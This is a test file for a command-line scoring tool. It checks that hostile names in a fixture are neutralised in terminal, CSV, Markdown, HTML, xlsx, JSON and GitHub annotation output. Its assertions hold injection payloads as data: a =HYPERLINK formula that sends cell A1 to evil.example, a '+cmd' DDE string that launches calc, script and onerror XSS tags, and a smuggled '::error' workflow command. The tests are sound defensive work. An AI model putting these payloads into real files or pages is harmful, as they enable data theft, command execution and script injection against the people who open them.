// test/fixtures/hostile: names and labels with =HYPERLINK(...), <script>, quotes, a pipe, a
// newline and terminal escape sequences. Every output must leave them inert: escaped in HTML and
// Markdown, neutralised in CSV and xlsx, stripped of control sequences on a terminal.
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { BIN, folder, ROOT, run } from "../helpers/exec.ts";

const HOSTILE = "test/fixtures/hostile";
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const FORMULA = /^[=+\-@\t\r]/;

describe("terminal output carries no control sequence", () => {
  it.each([
    [["rank", HOSTILE]],
    [["score", HOSTILE]],
    [["explain", "A5", HOSTILE]],
    [["explain", "A2", HOSTILE, "--lang", "en"]],
    [["criteria", HOSTILE]],
  ])("%j", (args) => {
    const r = run(args, { env: { FORCE_COLOR: "", NO_COLOR: "1" } });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(CONTROL);
    expect(r.stderr).not.toMatch(CONTROL);
  });

  it("the names still read: the escape sequences go, the text stays", () => {
    const r = run(["rank", HOSTILE]);
    expect(r.stdout).toContain("Red Ward");
    expect(r.stdout).not.toContain("]0;title");
  });

  it("an unknown unit's suggestions are inert too", () => {
    const r = run(["explain", "A5x", HOSTILE]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("A5 (Red Ward");
    expect(r.stderr).not.toMatch(CONTROL);
  });
});

describe("CSV: formulas neutralised", () => {
  it.each([["rank"], ["score"]])("%s -f csv", (cmd) => {
    const rows = parse(run([cmd, HOSTILE, "-f", "csv"]).stdout) as string[][];
    const names = rows.slice(1).map((r) => r[cmd === "rank" ? 3 : 2] as string);
    expect(names).toContain("'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")");
    expect(names).toContain("'+cmd|' /C calc'!A0");
    expect(names).toContain("'-2+3");
    expect(names).toContain("Line one\nLine two");
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(FORMULA);
  });
});

describe("Markdown: one table row per unit, nothing that renders as HTML or a link", () => {
  it.each([["rank"], ["report"]])("%s -f md", (cmd) => {
    const md = run([cmd, HOSTILE, "-f", "md"]).stdout;
    // a tag needs an unescaped "<"
    expect(md).not.toMatch(/(^|[^\\])<(script|img|\/style|\/svg)/im);
    expect(md).not.toMatch(/(^|[^\\])\]\(http/m);
    expect(md).not.toMatch(CONTROL);
    expect(md).toContain("\\<script\\>alert(1)\\</script\\>");
    expect(md).toContain("Line one Line two");
    expect(md).toContain("\\| pipe");
    const table = md.split("\n").filter((l) => l.startsWith("| "));
    const cells = (l: string) => l.replace(/\\\|/g, "").split("|").length;
    const ranking = table.filter((l) => /^\| \d+ \| A\d /.test(l));
    expect(ranking).toHaveLength(7);
    const header = table.find((l) => l.startsWith("| STT"));
    for (const l of ranking) expect(cells(l), l).toBe(cells(header as string));
  });
});

describe("HTML: every text escaped, no script can run", () => {
  const html = (() => {
    const out = path.join(folder({}), "h.html");
    const r = run(["report", HOSTILE, "-o", out]);
    expect(r.code, r.stderr).toBe(0);
    return readFileSync(out, "utf8");
  })();

  it("no tag from the data", () => {
    expect(html).not.toMatch(/<script|<img|<\/svg><script/i);
    expect(html.match(/<\/style>/g)).toHaveLength(1);
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(html).toContain("&lt;img src=x onerror=alert(2)&gt;");
    expect(html).toContain("Xã &quot;Quote&quot; &#39;single&#39; | pipe");
    expect(html).not.toMatch(CONTROL);
  });

  it("a band colour that is not a plain hex colour is not used", () => {
    expect(html).not.toContain("alert(5)");
    expect(html).not.toContain('fill="red');
  });
});

describe("xlsx: text cells neutralised, no formula, no control character", () => {
  it.each([
    [["rank", HOSTILE]],
    [["score", HOSTILE]],
    [["compare", HOSTILE, HOSTILE]],
    [["sensitivity", HOSTILE, "--runs", "20", "--workers", "0"]],
    [["template", HOSTILE, "--unit", "A4"]],
    [["template", HOSTILE, "--level", "u"]],
  ])("%j -f xlsx: every cell of every sheet", async (args) => {
    const r = spawnSync(process.execPath, [BIN, ...args, "-f", "xlsx"], { cwd: ROOT });
    expect(r.status, r.stderr.toString()).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.stdout as unknown as ArrayBuffer);
    let texts = 0;
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === "string") {
            texts += 1;
            expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(FORMULA);
            expect(cell.value).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
          }
        }),
      );
    }
    expect(texts).toBeGreaterThan(10);
  });

  it("every cell of every sheet of the report", async () => {
    const r = spawnSync(process.execPath, [BIN, "report", HOSTILE, "-f", "xlsx"], { cwd: ROOT });
    expect(r.status, r.stderr.toString()).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.stdout as unknown as ArrayBuffer);
    let texts = 0;
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.type).not.toBe(ExcelJS.ValueType.Hyperlink);
          if (typeof cell.value === "string") {
            texts += 1;
            expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(FORMULA);
            expect(cell.value).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
          }
        }),
      );
    }
    expect(texts).toBeGreaterThan(50);
    const names = (wb.getWorksheet("Bảng xếp hạng u")?.getColumn(3).values ?? []).slice(2);
    expect(names).toContain("'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")");
    expect(names).toContain("Red Ward ");
  });
});

describe("JSON: valid, with the names as they were", () => {
  it.each([[["rank", HOSTILE, "-f", "json"]], [["explain", "A4", HOSTILE, "-f", "json"]]])("%j", (args) => {
    const r = run(args);
    expect(r.code).toBe(0);
    const j = JSON.parse(r.stdout);
    expect(JSON.stringify(j)).toContain("Line one\\nLine two");
  });
});

it("the fixture really is hostile", () => {
  const units = readFileSync(path.join(ROOT, HOSTILE, "units.csv"), "utf8");
  expect(units).toContain("\u001b[31m");
  expect(units).toContain("<script>");
  expect(units).toContain('"Line one\nLine two"');
});

describe("the audit: every text inert", () => {
  it("md and the terminal table", () => {
    const md = run(["audit", HOSTILE, "-f", "md"]);
    expect(md.code, md.stderr).toBe(0);
    expect(md.stdout).not.toMatch(/(^|[^\\])<(script|img)/im);
    expect(md.stdout).not.toMatch(CONTROL);
    expect(md.stdout).toContain("\\<script\\>alert('title')\\</script\\>");
    const table = run(["audit", HOSTILE]);
    expect(table.stdout).not.toMatch(CONTROL);
  });

  it("html: no tag from the data, in the tables or the SVG", () => {
    const out = path.join(folder({}), "a.html");
    expect(run(["audit", HOSTILE, "-o", out]).code).toBe(0);
    const html = readFileSync(out, "utf8");
    expect(html).not.toMatch(/<script|<img/);
    expect(html).toContain("&lt;img src=x onerror=alert(2)&gt;");
  });
});

describe("workflow commands cannot be injected through the data", () => {
  it("a header holding a line break and a command stays inside its own annotation", () => {
    const dir = folder({
      "egov-score.yaml": "criteria: c.yaml\ndata: [d.csv]\n",
      "c.yaml": "id: t\ntitle: T\nversion: 1\nlanguage: en\nlevels:\n  - id: so\nindicators:\n  - { id: a, max: 100, rule: { type: ratio } }\n",
      "d.csv": 'code,a,"x\n::error file=evil.yaml::owned"\nS1,50,1\n',
    });
    const r = run(["validate", "-f", "github"], { cwd: dir });
    const lines = r.stdout.trimEnd().split("\n");
    expect(lines.filter((l) => l.startsWith("::"))).toHaveLength(1);
    expect(lines[0]).toMatch(/^::warning file=d\.csv,line=1,title=egov-score CSV_UNKNOWN_COLUMN::the column "x%0A::error file=evil\.yaml::owned" is not an indicator/);
  });
});
